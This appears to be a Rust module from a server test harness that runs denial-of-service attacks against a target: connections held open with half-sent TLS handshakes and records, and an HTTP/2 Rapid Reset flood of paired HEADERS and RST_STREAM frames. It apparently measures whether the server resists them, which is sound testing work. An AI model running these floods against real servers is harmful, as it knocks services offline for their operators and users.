//! Attacks on TLS and on HTTP/2.

use anyhow::{Result, ensure};
use futures_util::future::try_join_all;
use lineman_tests::http2::{Frame, GOAWAY, HEADERS, Http2, RST_STREAM, WHOLE, frame, get};
use lineman_tests::raw::Raw;
use lineman_tests::secure::dial;
use tokio::io::AsyncWriteExt;
use tokio::time::Instant;

use crate::attack::{Siege, gathered};

/// The beginning of a hello: a record of 512 bytes of which few come.
const HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";

/// The beginning of a record of application data (RFC 8446, 5.1) of 16 KiB.
const RECORD: &[u8] = b"\x17\x03\x03\x40\x00half of it";

/// Requests of one connection.
const REQUESTS: u32 = 5000;

/// `CANCEL` (RFC 9113, 7).
const CANCEL: u32 = 8;

pub(super) async fn half_handshakes(siege: &Siege) -> Result<String> {
    let peers = gathered(siege.crowd(10_000), async |_| {
        let mut peer = Raw::connect(&siege.target.secure).await?;
        peer.send(HELLO).await?;
        Ok(peer)
    });
    let peers = peers.await;
    siege.holds().await;
    Ok(format!("{} connections", peers.len()))
}

pub(super) async fn half_records(siege: &Siege) -> Result<String> {
    let peers = gathered(siege.crowd(1000), async |_| {
        let stream = dial(&siege.target.secure, &siege.authority, &["http/1.1"]).await?;
        let (mut stream, _session) = stream.into_inner();
        stream.write_all(RECORD).await?;
        Ok(stream)
    });
    let peers = peers.await;
    siege.holds().await;
    let stay = |stream: &&tokio::net::TcpStream| {
        let seen = stream.try_read(&mut [0; 16 * 1024]);
        seen.is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock)
    };
    // What was sent to them before, tickets for one, is read first.
    for peer in &peers {
        drop(peer.try_read(&mut [0; 16 * 1024]));
    }
    let staying = peers.iter().filter(stay).count();
    Ok(format!("{} connections, {staying} stay", peers.len()))
}

pub(super) async fn rapid_reset(siege: &Siege) -> Result<String> {
    let block = get("/large");
    let pairs = (0..REQUESTS).map(|number| {
        let id = number * 2 + 1;
        let reset = frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes());
        [frame(HEADERS, WHOLE, id, &block), reset].concat()
    });
    let all = pairs.flatten().collect::<Vec<u8>>();
    let (mut count, end) = (0, siege.end());
    while Instant::now() < end {
        let attackers = (0..3).map(async |_| {
            let peer = Http2::connect(&siege.target.secure, &siege.authority, &[]).await?;
            let heard = peer.answers(all.chunks(16 * 1024).map(<[u8]>::to_vec)).await?;
            let is_farewell = |frame: &Frame| frame.kind == GOAWAY;
            ensure!(heard.iter().any(is_farewell), "one that resets was not sent away");
            anyhow::Ok(())
        });
        count += try_join_all(attackers).await?.len();
    }
    Ok(format!("{count} connections"))
}
